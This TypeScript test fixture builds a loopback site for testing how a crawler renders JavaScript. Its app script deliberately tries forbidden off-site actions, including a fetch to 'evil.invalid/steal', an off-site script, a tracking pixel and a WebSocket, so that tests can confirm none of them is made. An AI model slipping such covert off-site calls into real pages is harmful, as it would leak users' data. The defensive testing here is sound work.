/**
 * A loopback site whose links are partly built by JavaScript, for the rendering tests.
 *
 *   /                 plain HTML: links to /app/ and /static/
 *   /static/          plain HTML with a script (/js/static.js) that would add /static/js-only
 *                     and send a beacon: both appear only if the page is (wrongly) rendered
 *   /app/             no links in its HTML; /js/app.js adds /app/item/1, /app/item/2 and
 *                     /plain/3, sends a beacon (/beacon/app), and tries everything a page
 *                     must not do: an off-site script, image and fetch, a WebSocket, a POST
 *   /app/item/N       an inline script adds a link to /plain/item-N
 *   /plain/*          plain pages without links
 *   /hang/            a page whose script (/js/hang.js) is never answered: it never loads
 *
 * The site's request log (SyntheticSite.requests) tells which scripts ran: a page that was
 * only fetched never requests its scripts.
 */
import type { IncomingMessage, ServerResponse } from 'node:http';
import { startSyntheticSite, type RouteHandler, type SyntheticSite } from '../../src/sites/synthetic-site';

/** Off-site targets of /app/: none of them may ever be requested, resolved or connected to. */
export const OFFSITE = {
  script: 'http://offsite.invalid/evil.js',
  image: 'http://203.0.113.7/pixel.png',
  fetch: 'http://evil.invalid/steal?data=1',
  webSocket: 'ws://evil.invalid/socket',
};

function page(title: string, body: string): RouteHandler {
  return (_req: IncomingMessage, res: ServerResponse) => {
    res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
    res.end(`<!doctype html><html><head><meta charset="utf-8"><title>${title}</title></head><body>${body}</body></html>`);
  };
}

function script(source: string): RouteHandler {
  return (_req, res) => {
    res.writeHead(200, { 'content-type': 'application/javascript' });
    res.end(source);
  };
}

const addLinks = (paths: string[]): string =>
  paths.map((path) => `{ const a = document.createElement('a'); a.href = '${path}'; a.textContent = '${path}'; document.body.appendChild(a); }`).join('\n');

const APP_JS = `
${addLinks(['/app/item/1', '/app/item/2', '/plain/3'])}
document.title = 'App (rendered)';
fetch('/beacon/app').catch(() => {});
fetch('${OFFSITE.fetch}').catch(() => {});
fetch('/beacon/post', { method: 'POST', body: 'x' }).catch(() => {});
try { new WebSocket('${OFFSITE.webSocket}'); } catch (e) {}
`;

export const JS_SITE_ROUTES: Record<string, RouteHandler> = {
  '/': page('Home', '<a href="/app/">app</a> <a href="/static/">static</a>'),
  '/static/': page('Static', `<a href="/plain/1">one</a><script src="/js/static.js"></script>`),
  '/js/static.js': script(`${addLinks(['/static/js-only'])}\nfetch('/beacon/static');`),
  '/app/': page('App', `<noscript>needs JavaScript</noscript><script src="${OFFSITE.script}"></script><img src="${OFFSITE.image}"><script src="/js/app.js"></script>`),
  '/js/app.js': script(APP_JS),
  '/app/item/1': page('Item 1', `<script>${addLinks(['/plain/item-1'])}</script>`),
  '/app/item/2': page('Item 2', `<script>${addLinks(['/plain/item-2'])}</script>`),
  '/hang/': page('Hang', '<script src="/js/hang.js"></script>'),
  '/js/hang.js': () => undefined,
  '/beacon/app': (_req, res) => res.writeHead(204).end(),
  '/beacon/static': (_req, res) => res.writeHead(204).end(),
  '/beacon/post': (_req, res) => res.writeHead(204).end(),
  ...Object.fromEntries(['/plain/1', '/plain/3', '/plain/item-1', '/plain/item-2', '/static/js-only'].map((path) => [path, page(path, 'plain')])),
};

/** The glob that selects the pages to render. */
export const RENDER_MATCH = '/app/**';

export function startJsSite(): Promise<SyntheticSite> {
  return startSyntheticSite({ pages: 1, routes: JS_SITE_ROUTES });
}

/** How often the site served `path` (query strings ignored). */
export function requestsOf(site: SyntheticSite, path: string): number {
  return site.requests.filter((entry) => entry.path.split('?')[0] === path).length;
}
